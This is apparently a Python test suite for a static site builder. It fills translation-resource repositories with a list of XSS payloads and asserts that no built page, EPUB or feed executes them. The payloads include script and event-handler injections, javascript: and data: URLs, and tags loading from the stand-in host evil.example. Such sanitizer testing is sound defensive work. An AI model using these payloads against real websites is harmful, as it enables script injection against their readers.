"""Nothing that a repository says is executed by a reader's browser, in whatever file it stands.

One library holds every attack in every place where text of authors goes; all its pages are parsed as a
browser does.
"""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from xml.etree.ElementTree import Element, fromstring

import html5lib
import pytest

from tests.files import write_files
from tests.git_host import commit_all
from tests.site.built import Site, build

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">here</a>',
    '<a href="java&#115;cript:alert(1)">here</a>',
    '<a href="  java\u0001script:alert(1)">here</a>',
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt:alert(1))",
    "[here](data:text/html;base64,PHNjcmlwdD4=)",
    "[here](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[[javascript:alert(1)]]",
    '[x](rc://*/ta/man/translate/x" onclick="alert(1))',
    "<iframe src=//evil.example></iframe>",
    "<svg onload=alert(1)><g/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">x</p>',
    "<form action=//evil.example><input name=a></form>",
    '<object data="x"></object><embed src="x">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<!--tx:verse tit 1 1-->",
    '<a data-to="javascript:alert(1)">x</a>',
    '<details open ontoggle="alert(1)">x</details>',
    "</article></div><!-- /content --><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u2028<script>alert(1)</script>",
]
OWN_SCRIPTS = re.compile(r"(?:/|\./|(?:\.\./)*)js/[\w-]+\.js(?:\?v=[0-9a-f]+)?")
"""The theme's, on 404.html from the root of the host; legacy addresses are small pages with a script of
their own, and are looked at apart."""
OWN_SEARCH = re.compile(r"(?:/|\./|(?:\.\./)*)search\.html")
DANGEROUS = {
    *("iframe", "object", "embed", "style", "base", "form", "input", "svg", "math", "frame"),
    *("applet", "template", "portal", "audio", "video"),
}


def manifest(identifier: str, subject: str, projects: str, title: str = "x") -> str:
    data = {
        "dublin_core": {
            "conformsto": "rc0.2",
            "identifier": identifier,
            "title": title,
            "description": ATTACKS[0],
            "publisher": ATTACKS[2],
            "contributor": [ATTACKS[24], ATTACKS[25]],
            "rights": ATTACKS[3],
            "subject": subject,
            "language": {"identifier": "en", "title": ATTACKS[14], "direction": "ltr"},
        },
        "checking": {"checking_level": ATTACKS[0]},
        "projects": json.loads(projects),
    }
    return json.dumps(data)


def repositories(top: Path) -> list[Path]:
    """A repository of every kind, each with all attacks."""
    lines = [" ".join(attack.split("\n")) for attack in ATTACKS]
    files: dict[str, str] = {}
    title = "Notes <script>alert(1)</script>"
    files["en_tn/manifest.yaml"] = manifest(
        "tn",
        "TSV Translation Notes",
        '[{"identifier":"tit","title":"<b onclick=x>","path":"./tn_TIT.tsv"}]',
        title,
    )
    rows = ["Reference\tID\tTags\tSupportReference\tQuote\tOccurrence\tNote"]
    for number, attack in enumerate(lines, 1):
        rows.append(f"1:{number}\ta{number:03d}\t\t\t\t0\t{attack}\\n\\n* {attack}\\n\\n# {attack}")
        rows.append(f"1:{number}\t{attack}\t{attack}\t{attack}\t{attack}\t1\tx")
        rows.append(f"{attack}\tb{number:03d}\t\t\t\t0\tx")
    files["en_tn/tn_TIT.tsv"] = "\n".join(rows)
    files["en_tq/manifest.yaml"] = manifest(
        "tq",
        "TSV Translation Questions",
        '[{"identifier":"tit","title":"Titus","path":"./tq_TIT.tsv"}]',
    )
    rows = ["Reference\tID\tTags\tQuote\tOccurrence\tQuestion\tResponse"]
    rows += [f"1:{n}\tq{n:03d}\t\t{a}\t1\t{a}\t{a}" for n, a in enumerate(lines, 1)]
    files["en_tq/tq_TIT.tsv"] = "\n".join(rows)
    files["en_twl/manifest.yaml"] = manifest(
        "twl",
        "TSV Translation Words Links",
        '[{"identifier":"tit","title":"Titus","path":"./twl_TIT.tsv"}]',
    )
    rows = ["Reference\tID\tTags\tOrigWords\tOccurrence\tTWLink"]
    rows += [f"1:{n}\tw{n:03d}\t{a}\t{a}\t1\t{a}" for n, a in enumerate(lines, 1)]
    files["en_twl/twl_TIT.tsv"] = "\n".join(rows)
    files["en_tw/manifest.yaml"] = manifest(
        "tw", "Translation Words", '[{"identifier":"bible","title":"x","path":"./bible"}]'
    )
    files["en_ta/manifest.yaml"] = manifest(
        "ta", "Translation Academy", '[{"identifier":"translate","title":"x","path":"./translate"}]'
    )
    toc = []
    for number, attack in enumerate(ATTACKS):
        files[f"en_tw/bible/kt/term{number}.md"] = (
            f"# {attack}\n\n{attack}\n\n## {attack}\n\n* {attack}\n"
        )
        files[f"en_ta/translate/article{number}/01.md"] = (
            f"{attack}\n\n> {attack}\n\n|a|b|\n|-|-|\n|{attack}|x|\n"
        )
        files[f"en_ta/translate/article{number}/title.md"] = attack
        files[f"en_ta/translate/article{number}/sub-title.md"] = attack
        toc.append({"title": attack, "link": f"article{number}"})
        toc.append({"title": attack, "link": attack})
    files["en_ta/translate/toc.yaml"] = json.dumps({"title": ATTACKS[0], "sections": toc})
    files["en_tn-md/manifest.yaml"] = manifest(
        "tn", "Translation Notes", '[{"identifier":"tit","title":"Titus","path":"./tit"}]'
    )
    for number, attack in enumerate(ATTACKS, 1):
        files[f"en_tn-md/tit/01/{number:02d}.md"] = f"# {attack}\n\n{attack}\n"
    files["en_ulb/manifest.yaml"] = manifest(
        "ulb", "Bible", '[{"identifier":"tit","title":"<script>x</script>","path":"./57-TIT.usfm"}]'
    )
    verses = "".join(f"\\v {n} {a} \\f + \\ft {a}\\f*\n" for n, a in enumerate(lines, 1))
    files["en_ulb/57-TIT.usfm"] = (
        f"\\id TIT {lines[0]}\n\\h {lines[0]}\n\\mt {lines[2]}\n\\c 1\n\\p\n{verses}"
    )
    files["en_obs/manifest.yaml"] = manifest(
        "obs", "Open Bible Stories", '[{"identifier":"obs","title":"x","path":"./content"}]'
    )
    frames = "".join(
        f"![{a}](https://x.example/obs-en-01-{n:02d}.jpg)\n\n{a}\n\n"
        for n, a in enumerate(lines, 1)
    )
    files["en_obs/content/01.md"] = f"# 1. {lines[0]}\n\n{frames}_{lines[0]}_\n"
    files["en_pages/README.md"] = "\n\n".join(ATTACKS)
    files["en_pages/more/page.md"] = "\n\n".join(f"# {attack}" for attack in ATTACKS)
    write_files(top, files)
    return sorted({top / path.partition("/")[0] for path in files})


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    top = tmp_path_factory.mktemp("hostile")
    first, *others = repositories(top)
    return build(first, top / "site", *map(str, others))


def elements(page: str) -> Iterator[Element]:
    return html5lib.parse(page, namespaceHTMLElements=False).iter()  # type: ignore[no-any-return]


def test_the_site_is_built(site: Site) -> None:
    assert site.exit_code == 0
    assert len(site.log["resources"]) == 9
    assert len(site.html_files) > 2 * len(ATTACKS)


def test_nothing_is_executed(site: Site) -> None:
    looked_at = 0
    icons: set[str] = set()
    bars: set[str] = set()
    for name in site.html_files:
        page = site.page(name)
        searched: set[int] = set()
        legacy = 'name="robots" content="noindex"' in page
        for element in elements(page):
            looked_at += 1
            tag = str(element.tag).rpartition("}")[2].lower()
            if tag == "script" and element.get("type") == "application/ld+json":
                # Data for search engines: no browser runs it, and no text of it can end it.
                assert "<" not in (element.text or ""), name
                json.loads(element.text or "")
            elif tag == "script":
                source = element.get("src", "")
                assert OWN_SCRIPTS.fullmatch(source) or (legacy and not source), (name, source)
                assert not legacy or "alert" not in (element.text or ""), name
            elif tag == "meta" and element.get("http-equiv"):
                assert legacy and "evil" not in element.get("content", ""), name
            elif tag == "link":
                assert "evil" not in element.get("href", ""), name
                if element.get("rel") == "icon":
                    # The theme's own, which is the same on every page.
                    icons.add(element.attrib.pop("href"))
            elif tag == "form":
                # The theme's search; authors have no forms.
                assert element.get("role") == "search", name
                assert OWN_SEARCH.fullmatch(element.get("action", "")), name
                searched = {id(child) for child in element.iter()}
            elif tag == "input":
                assert id(element) in searched, name
            elif tag == "svg" and element.get("id") == "tx-start":
                # The bar that the theme draws before its sheet is there: authors' ids do not begin so.
                assert [str(child.tag).rpartition("}")[2] for child in element.iter()] == [
                    "svg",
                    "rect",
                ], name
                assert name not in bars, name
                bars.add(name)
            else:
                assert tag not in DANGEROUS, (name, tag)
            for attribute, value in element.attrib.items():
                lowered = attribute.lower()
                assert not lowered.startswith("on") and lowered not in (
                    "srcdoc",
                    "formaction",
                    "data-to",
                ), name
                assert lowered != "style", (name, tag)
                if lowered in ("href", "src", "action", "xlink:href", "srcset", "content"):
                    plain = re.sub(r"[\x00-\x20]", "", value).lower()
                    assert not re.match(r"(?:javascript|vbscript|data):", plain), (name, value)
    assert looked_at > 10_000
    assert len(icons) <= 1 and all(icon.startswith("data:image/svg+xml,") for icon in icons)


def test_the_words_are_there_to_be_read(site: Site) -> None:
    """What was meant as an attack is shown as it was typed, so that its author sees it."""
    notes = site.text("en_tn/tit/01.html")
    assert notes.count("<script>alert(1)</script>") > 3
    assert "alert(1)" in site.text("en_ulb/tit/01.html")
    assert "<script>alert(1)</script>" in site.text("en_tw/kt/term0.html")


def texts_of(folder: Path) -> Iterator[tuple[str, Iterable[Element]]]:
    """What is saved or read elsewhere than on the pages: documents, parts of books, what feeds show as HTML."""
    for path in sorted(folder.rglob("*")):
        if path.match("downloads/*.html"):
            yield path.name, elements(path.read_text(encoding="utf-8"))
        elif path.suffix == ".epub":
            with zipfile.ZipFile(path) as book:
                for name in book.namelist():
                    if name.endswith((".xhtml", ".opf", ".ncx", ".xml")):
                        yield f"{path.name} {name}", fromstring(book.read(name)).iter()
        elif path.suffix == ".atom":
            feed = fromstring(path.read_bytes())
            yield path.name, feed.iter()
            for element in feed.iter():
                if element.get("type") == "html":
                    yield path.name, elements(element.text or "")


def test_documents_feeds_and_data_execute_nothing(tmp_path: Path) -> None:
    chosen = [path for path in repositories(tmp_path) if path.name in ("en_ulb", "en_tn", "en_ta")]
    for repository in chosen:
        commit_all(repository, ATTACKS[0])
        (repository / "more.md").write_text("\n\n".join(ATTACKS))
        commit_all(repository, f"]]>{ATTACKS[24]}")
    options = ("--documents", "html,epub", "--site-url", "https://example.org/")
    first, *others = map(str, chosen)
    folder = tmp_path / "site"
    assert build(first, folder, *others, *options).exit_code == 0
    kinds = set()
    for name, found in texts_of(folder):
        kinds.add(name.rpartition(".")[2])
        for element in found:
            tag = str(element.tag).rpartition("}")[2].lower()
            # A document has its own style sheet in its head.
            assert tag != "script" and tag not in DANGEROUS - {"style"}, (name, tag)
            assert tag != "style" or "*{display" not in (element.text or ""), name
            for attribute, value in element.attrib.items():
                assert not attribute.lower().startswith("on") and attribute != "style", name
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not re.match(r"(?:javascript|vbscript|data):", plain), (name, value)
    assert kinds >= {"html", "xhtml", "opf", "atom"}
    # Data for the theme's scripts: whatever the repository says is inside of strings.
    data = [path for path in folder.rglob("*.js") if "alert(1)" in path.read_text(encoding="utf-8")]
    assert len(data) > 5
    for path in data:
        bare = re.sub(r'"(?:[^"\\\n]|\\.)*"', "", path.read_text(encoding="utf-8"))
        assert "alert" not in bare and "<" not in bare, path
